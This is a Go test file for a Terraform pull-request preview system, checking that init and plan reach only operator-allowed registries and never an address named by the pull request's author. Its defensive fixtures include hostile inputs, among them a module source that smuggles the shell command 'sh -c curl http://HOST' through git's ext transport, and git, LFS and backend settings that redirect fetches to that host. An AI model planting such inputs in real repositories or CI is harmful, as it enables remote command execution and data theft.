//go:build linux

package preview_test

import (
	"context"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"reconcile/internal/registrytest"
	"reconcile/reconciler/run"
	"reconcile/reconciler/terraform"
	"reconcile/state"
)

// startForbiddenServer listens at an address that nobody allowed, and counts who comes.
func startForbiddenServer(t *testing.T) (address string, calls func() int) {
	t.Helper()
	listener, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	count := make(chan int, 1)
	count <- 0
	go func() {
		for {
			conn, err := listener.Accept()
			if err != nil {
				return
			}
			count <- 1 + <-count
			conn.Close()
		}
	}()
	t.Cleanup(func() { listener.Close() })
	return listener.Addr().String(), func() int { n := <-count; count <- n; return n }
}

// useEnv gives the traced Terraform some variables, and a CLI configuration unless it is "".
func (e *tracedEnv) useEnv(cliConfig string, pairs ...string) {
	e.T.Helper()
	file := filepath.Join(e.T.TempDir(), "terraformrc")
	e.Must(os.WriteFile(file, []byte(cliConfig), 0o600))
	environ := append(os.Environ(), append(pairs, "TF_CLI_CONFIG_FILE="+file)...)
	e.Config.Terraform = func(ctx context.Context) (run.Terraform, error) {
		tf, err := terraform.New(ctx, terraform.Options{WorkDir: e.Config.WorkDir, Binary: e.binary, Env: func() []string { return environ }})
		if err != nil {
			return nil, err
		}
		return run.AdaptTerraform(tf), nil
	}
}

// connections returns the addresses that the named step of a workspace connected to, except
// name servers, whose answers decide nothing here.
func (e *tracedEnv) connections(name, step string) (addresses []string) {
	e.T.Helper()
	for place := range e.touchedPaths(step)[name] {
		if host, port, err := net.SplitHostPort(place); err == nil && net.ParseIP(host) != nil && port != "53" && port != "0" {
			addresses = append(addresses, place)
		}
	}
	slices.Sort(addresses)
	return addresses
}

const timeProvider = `terraform {
  required_providers {
    time = {
      source  = "%s"
      version = "` + registrytest.Version + `"
    }
  }
}
resource "time_static" "x" {
  rfc3339 = "2026-11-23T00:00:00Z"
}
`

// TestInitConnects: init of a pull request connects to the registries and mirrors that the
// operator allowed, and to nothing else.
func TestInitConnects(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct {
		settings, cliConfig string // HOST stands for the server
		source, more        string
		redirects           bool // the registry names another host for its files
		asked               []string
	}{
		"a network mirror": {
			cliConfig: "provider_installation {\n  network_mirror {\n    url = \"https://HOST/mirror/\"\n  }\n}\n", source: "hashicorp/time",
			asked: []string{"/files/", "/mirror/registry.terraform.io/hashicorp/time/" + registrytest.Version + ".json", "/mirror/registry.terraform.io/hashicorp/time/index.json"},
		},
		"a registry, and a module of it": {
			settings: "preview {\n  providers = [\"HOST/acme/time\"]\n  modules   = [\"HOST/acme/m/time\"]\n}\n", source: "HOST/acme/time",
			more: "module \"m\" {\n  source  = \"HOST/acme/m/time\"\n  version = \"" + registrytest.Version + "\"\n}\n",
			asked: []string{
				"/.well-known/terraform.json", "/files/", "/files/SHA256SUMS", "/files/SHA256SUMS.sig", "/files/module.zip", "/v1/modules/acme/m/time/" + registrytest.Version + "/download",
				"/v1/modules/acme/m/time/versions", "/v1/providers/acme/time/" + registrytest.Version + "/download/linux/amd64", "/v1/providers/acme/time/versions",
			},
		},
		"a registry that sends elsewhere": { // which the operator allowed with it
			settings: "preview {\n  providers = [\"HOST/acme/time\"]\n}\n", source: "HOST/acme/time", redirects: true,
			asked: []string{"/v1/providers/acme/time/versions"},
		},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			server := registrytest.New(t)
			hosts := []string{server.Host}
			if c.redirects {
				other := registrytest.New(t)
				hosts, server.Redirects = append(hosts, other.Host), "https://"+other.Host
			}
			fill := func(text string) string { return strings.ReplaceAll(text, "HOST", server.Host) }
			w := newTracedEnv(t, strings.Replace(harmlessFiles, "env/reconcile.hcl --\n", "env/reconcile.hcl --\n"+fill(c.settings), 1))
			w.useEnv(fill(c.cliConfig), "SSL_CERT_FILE="+server.CAFile)
			w.openPullRequest(1, "new", "-- env/new/main.tf --\n"+fill(fmt.Sprintf(timeProvider, c.source)+c.more))
			round, err := w.runPreviews()
			w.Must(err)
			if ws := round.PullRequests[0].Workspaces; len(ws) != 1 || ws[0].Changes.Add != 1 {
				t.Fatalf("%+v", ws)
			}
			if got := w.connections("new", "init"); !slices.Equal(got, slices.Sorted(slices.Values(hosts))) {
				t.Errorf("init connects to %q", got)
			}
			for _, step := range []string{"plan", "show"} {
				if got := w.connections("new", step); len(got) > 0 {
					t.Errorf("%s connects to %q", step, got)
				}
			}
			for _, want := range c.asked {
				if !slices.ContainsFunc(server.Asked(), func(path string) bool { return strings.HasPrefix(path, want) }) {
					t.Errorf("%s was not asked for: %q", want, server.Asked())
				}
			}
		})
	}
}

// fetches are workspaces of a pull request that each try to make init, or the plan, connect
// to HOST. Those whose names begin with "bare" are planned, because what names HOST is not
// laid out or not used.
var fetches = map[string]string{
	"git":              "-- main.tf --\nmodule \"m\" {\n  source = \"git::https://HOST/x.git\"\n}\n",
	"git-ssh":          "-- main.tf --\nmodule \"m\" {\n  source = \"git::ssh://git@HOST/x.git\"\n}\n",
	"git-scp":          "-- main.tf --\nmodule \"m\" {\n  source = \"git@HOST:x.git\"\n}\n",
	"git-ext":          "-- main.tf --\nmodule \"m\" {\n  source = \"git::ext::sh -c 'curl http://HOST'\"\n}\n",
	"http":             "-- main.tf --\nmodule \"m\" {\n  source = \"http://HOST/x.zip\"\n}\n",
	"https-subdir":     "-- main.tf --\nmodule \"m\" {\n  source = \"https://HOST/x.zip//a?archive=zip\"\n}\n",
	"s3":               "-- main.tf --\nmodule \"m\" {\n  source = \"s3::https://HOST/b/k.zip\"\n}\n",
	"gcs":              "-- main.tf --\nmodule \"m\" {\n  source = \"gcs::https://HOST/b/k.zip\"\n}\n",
	"hg":               "-- main.tf --\nmodule \"m\" {\n  source = \"hg::http://HOST/x\"\n}\n",
	"oci":              "-- main.tf --\nmodule \"m\" {\n  source = \"oci://HOST/x\"\n}\n",
	"module-registry":  "-- main.tf --\nmodule \"m\" {\n  source  = \"HOST/a/b/c\"\n  version = \"1.0.0\"\n}\n",
	"module-heredoc":   "-- main.tf --\nmodule \"m\" {\n  source = <<-E\n    HOST/a/b/c\n  E\n}\n",
	"module-escaped":   "-- main.tf --\nmodule \"m\" {\n  source = \"git::ht\\u0074ps://HOST/x.git\"\n}\n",
	"module-local":     "-- main.tf --\nlocals {\n  s = \"http://HOST/x.zip\"\n}\nmodule \"m\" {\n  source = local.s\n}\n",
	"module-override":  "-- main.tf --\nmodule \"m\" {\n  source = \"./sub\"\n}\n-- override.tf --\nmodule \"m\" {\n  source = \"http://HOST/x.zip\"\n}\n-- sub/main.tf --\n",
	"module-of-module": "-- main.tf --\nmodule \"m\" {\n  source = \"./sub\"\n}\n-- sub/main.tf --\nmodule \"m\" {\n  source = \"http://HOST/x.zip\"\n}\n",
	"module-count-0":   "-- main.tf --\nmodule \"m\" {\n  count  = 0\n  source = \"http://HOST/x.zip\"\n}\n",
	"module-json":      "-- main.tf.json --\n{\"module\": {\"m\": {\"source\": \"http://HOST/x.zip\"}}}\n",
	"module-json-twice": "-- main.tf.json --\n{\"module\": {\"m\": {\"source\": \"./sub\"}}, \"module\": {\"m\": {\"source\": \"http://HOST/x.zip\"}}}\n" +
		"-- sub/main.tf --\n",
	"provider":            "-- main.tf --\nterraform {\n  required_providers {\n    x = { source = \"HOST/a/x\" }\n  }\n}\n",
	"provider-override":   "-- main.tf --\nresource \"time_static\" \"x\" {}\n-- a_override.tf --\nterraform {\n  required_providers {\n    time = { source = \"HOST/a/time\" }\n  }\n}\n",
	"provider-of-module":  "-- main.tf --\nmodule \"m\" {\n  source = \"./sub\"\n}\n-- sub/main.tf --\nterraform {\n  required_providers {\n    x = { source = \"HOST/a/x\" }\n  }\n}\n",
	"provider-quoted-key": "-- main.tf --\nterraform {\n  required_providers {\n    x = { \"source\" = \"HOST/a/x\" }\n  }\n}\n",
	"provider-escaped":    "-- main.tf --\nterraform {\n  required_providers {\n    x = { \"sour\\u0063e\" = \"HOST/a/x\" }\n  }\n}\n",
	"provider-twice":      "-- main.tf --\nterraform {\n  required_providers {\n    x = { source = \"hashicorp/time\", source = \"HOST/a/x\" }\n  }\n}\n",
	"provider-crlf":       "-- main.tf --\nterraform {\r\n  required_providers {\r\n    x = { source = \"HOST/a/x\" } # \r\n  }\r\n}\r\n",
	"provider-bom":        "-- main.tf --\n\ufeffterraform {\n  required_providers {\n    x = { source = \"HOST/a/x\" }\n  }\n}\n",
	"provider-comment":    "-- main.tf --\n/* # */ terraform { /* \" */\n  required_providers {\n    x = { source = /* \"hashicorp/time\" } */ \"HOST/a/x\" }\n  }\n}\n",
	"provider-function":   "-- main.tf --\nterraform {\n  required_providers {\n    x = { source = \"HOST/a/x\" }\n  }\n}\noutput \"o\" {\n  value = provider::x::f()\n}\n",
	"cloud":               "-- main.tf --\nterraform {\n  cloud {\n    hostname     = \"HOST\"\n    organization = \"o\"\n    workspaces {\n      name = \"w\"\n    }\n  }\n}\n",
	"state-store":         "-- main.tf --\nterraform {\n  state_store \"x\" {\n    provider \"x\" {}\n  }\n}\n",
	"remote-state":        "-- main.tf --\ndata \"terraform_remote_state\" \"x\" {\n  backend = \"http\"\n  config  = { address = \"http://HOST\" }\n}\n",
	"plugins":             "-- main.tf --\nresource \"terraform_data\" \"x\" {}\n-- terraform.d/plugins/HOST/a/x/1.0.0/linux_amd64/terraform-provider-x --\n#!/bin/sh\n",

	"bare-backend":     "-- main.tf --\nterraform {\n  backend \"http\" {\n    address      = \"http://HOST\"\n    lock_address = \"http://HOST\"\n  }\n}\n",
	"bare-cli-config":  "-- main.tf --\nresource \"terraform_data\" \"x\" {}\n-- .terraformrc --\nprovider_installation {\n  network_mirror {\n    url = \"https://HOST/\"\n  }\n}\n-- terraform.rc --\nhost \"registry.terraform.io\" {\n  services = { \"providers.v1\" = \"https://HOST/\" }\n}\n",
	"bare-tests":       "-- main.tf --\nresource \"terraform_data\" \"x\" {}\n-- tests/x.tftest.hcl --\nrun \"x\" {\n  module {\n    source = \"http://HOST/x.zip\"\n  }\n}\n-- y.tftest.json --\n{\"run\": {\"y\": {\"module\": {\"source\": \"http://HOST/x.zip\"}}}}\n-- z.tfquery.hcl --\nlist \"x_y\" \"z\" {\n  provider = x\n}\n-- m.tfmock.hcl --\nmock_data \"x\" {}\n",
	"bare-state":       "-- main.tf --\nresource \"terraform_data\" \"x\" {}\n-- terraform.tfstate --\n{\"version\": 4, \"serial\": 1, \"lineage\": \"x\", \"resources\": [{\"mode\": \"managed\", \"type\": \"x_y\", \"name\": \"z\", \"provider\": \"provider[\\\"HOST/a/x\\\"]\", \"instances\": []}]}\n",
	"bare-lock":        "-- main.tf --\nresource \"terraform_data\" \"x\" {}\n-- .terraform.lock.hcl --\nprovider \"HOST/a/x\" {\n  version = \"1.0.0\"\n}\n",
	"bare-made":        "-- main.tf --\nresource \"terraform_data\" \"x\" {}\n-- .terraform/terraform.tfstate --\n{\"version\": 3, \"backend\": {\"type\": \"http\", \"config\": {\"address\": \"http://HOST\"}}}\n-- .terraform/modules/modules.json --\n{\"Modules\": [{\"Key\": \"m\", \"Source\": \"http://HOST/x.zip\", \"Dir\": \".\"}]}\n-- .terraform/environment --\nother\n",
	"bare-git-files":   "-- main.tf --\nresource \"terraform_data\" \"x\" {}\n-- .gitattributes --\n* filter=lfs diff=lfs merge=lfs\n-- .lfsconfig --\n[lfs]\n\turl = http://HOST/\n-- .gitconfig --\n[url \"http://HOST/\"]\n\tinsteadOf = https://\n-- .netrc --\nmachine x login y password z\n",
	"bare-environment": "-- main.tf --\nresource \"terraform_data\" \"x\" {}\n-- .envrc --\nexport TF_REGISTRY_DISCOVERY_RETRY=0 TF_CLI_CONFIG_FILE=x\n-- terraform.tfvars --\nx = \"http://HOST\"\n-- backend.tfbackend --\naddress = \"http://HOST\"\n",
}

// TestFetchesConnectNowhere: nothing in a pull request makes init or a plan connect to an
// address of its author, with the check alone.
func TestFetchesConnectNowhere(t *testing.T) {
	t.Parallel()
	address, calls := startForbiddenServer(t)
	w := newTracedEnv(t, harmlessFiles)
	w.useEnv("disable_checkpoint = true\n")
	w.openPullRequest(1, "fetches", fetchArchive(address))
	round, err := w.runPreviews()
	w.Must(err)
	for _, ws := range round.PullRequests[0].Workspaces {
		isRefused := len(ws.Refused) > 0 || ws.Name == "cloud" && ws.Outcome == state.Failed // which no workspace may have
		if bare := strings.HasPrefix(ws.Name, "bare"); bare == isRefused {
			t.Errorf("%s: refused for %q, outcome %s: %s", ws.Name, ws.Refused, ws.Outcome, ws.Error)
		}
		for _, step := range []string{"init", "plan", "show"} {
			if got := w.connections(ws.Name, step); len(got) > 0 {
				t.Errorf("%s of %s connects to %q", step, ws.Name, got)
			}
		}
	}
	for _, name := range []string{"bare-backend", "bare-cli-config", "bare-tests", "bare-git-files", "bare-environment"} {
		if len(w.touchedPaths("init")[name]) == 0 {
			t.Errorf("init of %s was not traced", name)
		}
	}
	if len(round.PullRequests[0].Workspaces) != len(fetches) {
		t.Errorf("%d of %d workspaces", len(round.PullRequests[0].Workspaces), len(fetches))
	}
	if calls() > 0 {
		t.Errorf("%d connections elsewhere", calls())
	}
}

// fetchArchive returns the files of all fetches.
func fetchArchive(host string) string {
	var archive strings.Builder
	for name, files := range fetches {
		archive.WriteString(strings.ReplaceAll(strings.ReplaceAll(files, "-- ", "-- env/"+name+"/"), "HOST", host))
	}
	return strings.ReplaceAll(archive.String(), "/ --\n", " --\n")
}
